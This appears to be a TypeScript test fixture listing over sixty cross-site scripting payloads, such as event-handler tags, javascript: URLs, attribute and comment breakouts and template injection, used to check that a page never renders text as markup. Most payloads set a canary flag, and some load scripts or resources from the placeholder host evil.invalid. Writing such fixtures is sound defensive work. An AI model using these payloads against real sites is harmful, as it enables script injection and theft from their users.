/** Runs when the browser takes any of it for a script; a page of ours never has such a name. */
const strike = 'window.isBroken=1'

/** Elements that do something by themselves. Each marks itself, should it ever become an element. */
const elements = [
  `<script data-broken>${strike}</script>`,
  `<script data-broken src="https://evil.invalid/x.js"></script>`,
  `<ScRiPt data-broken>${strike}</ScRiPt>`,
  `<scr<script>ipt data-broken>${strike}</scr</script>ipt>`,
  `<img data-broken src=x onerror="${strike}">`,
  `<img data-broken src=x onerror='${strike}'>`,
  `<img data-broken src=x onerror=${strike}>`,
  `<img data-broken src="https://evil.invalid/pixel.png">`,
  `<img data-broken/src=x/onerror=${strike}>`,
  `<IMG data-broken """><SCRIPT>${strike}</SCRIPT>">`,
  `<image data-broken src=x onerror="${strike}">`,
  `<svg data-broken onload="${strike}">`,
  `<svg data-broken/onload=${strike}>`,
  `<svg data-broken><script>${strike}</script></svg>`,
  `<svg data-broken><animate onbegin="${strike}" attributeName=x dur=1s></svg>`,
  `<svg data-broken><a xlink:href="javascript:${strike}"><text>x</text></a></svg>`,
  `<math data-broken href="javascript:${strike}">x</math>`,
  `<iframe data-broken src="javascript:parent.${strike}"></iframe>`,
  `<iframe data-broken srcdoc="<script>parent.${strike}</script>"></iframe>`,
  `<iframe data-broken src="https://evil.invalid/"></iframe>`,
  `<object data-broken data="javascript:${strike}"></object>`,
  `<embed data-broken src="javascript:${strike}">`,
  `<video data-broken src=x onerror="${strike}"></video>`,
  `<audio data-broken src=x onerror="${strike}"></audio>`,
  `<video data-broken><source onerror="${strike}"></video>`,
  `<body data-broken onload="${strike}">`,
  `<details data-broken open ontoggle="${strike}">x</details>`,
  `<input data-broken autofocus onfocus="${strike}">`,
  `<select data-broken autofocus onfocus="${strike}"></select>`,
  `<textarea data-broken autofocus onfocus="${strike}"></textarea>`,
  `<button data-broken onclick="${strike}">x</button>`,
  `<form data-broken action="https://evil.invalid/"><input name=q></form>`,
  `<marquee data-broken onstart="${strike}">x</marquee>`,
  `<link data-broken rel="stylesheet" href="https://evil.invalid/x.css">`,
  `<style data-broken>@import url("https://evil.invalid/x.css");</style>`,
  `<div data-broken style="background:url(https://evil.invalid/x.png)">x</div>`,
  `<div data-broken style="position:fixed;inset:0" onmouseover="${strike}">x</div>`,
  `<meta data-broken http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  `<base data-broken href="https://evil.invalid/">`,
  `<a data-broken href="javascript:${strike}">x</a>`,
  `<a data-broken href=" java\tscript:${strike}">x</a>`,
  `<a data-broken href="data:text/html,<script>${strike}</script>">x</a>`,
  `<template data-broken><img src=x onerror="${strike}"></template>`,
  `<dialog data-broken open onclose="${strike}">x</dialog>`,
]

/** Ways out of an attribute, a string, a comment or a template, and text that other readers take for an order. */
const waysOut = [
  `"><img data-broken src=x onerror="${strike}">`,
  `'><img data-broken src=x onerror='${strike}'>`,
  `\` onmouseover=\`${strike}`,
  `" onfocus="${strike}" autofocus data-broken="`,
  `' onfocus='${strike}' autofocus data-broken='`,
  `</title><script data-broken>${strike}</script>`,
  `</textarea><script data-broken>${strike}</script>`,
  `</script><script data-broken>${strike}</script>`,
  `--><script data-broken>${strike}</script>`,
  `]]><script data-broken>${strike}</script>`,
  `&lt;img data-broken src=x onerror=${strike}&gt;`,
  `&#60;img data-broken src=x onerror=${strike}&#62;`,
  `\\u003cimg data-broken src=x onerror=${strike}\\u003e`,
  `\${${strike}}`,
  `{{constructor.constructor('${strike}')()}}`,
  `[x](javascript:${strike})`,
  `![x](https://evil.invalid/pixel.png)`,
  `javascript:${strike}//`,
  `‮<img data-broken src=x onerror="${strike}">`,
  `<![CDATA[<img data-broken src=x onerror="${strike}">]]>`,
]

/** More than sixty ways of writing markup into a text. */
export const hostileMarkup: readonly string[] = [...elements, ...waysOut]

/**
 * All of them over several rounds. What comes behind an element that swallows what follows (a script, a text field) would be
 * hidden from the browser, were the text taken for markup: those end their round.
 */
export function listRounds(count: number): string[] {
  const swallows = /^<(script|textarea|iframe|style|select|template|object|video|audio|svg|math|!)/i
  const rounds = Array.from({ length: count }, () => [] as string[])
  for (const [index, markup] of hostileMarkup.entries()) rounds[index % count]?.push(markup)
  return rounds.map((some) =>
    some.toSorted((one, other) => Number(swallows.test(one)) - Number(swallows.test(other))).join(' '),
  )
}
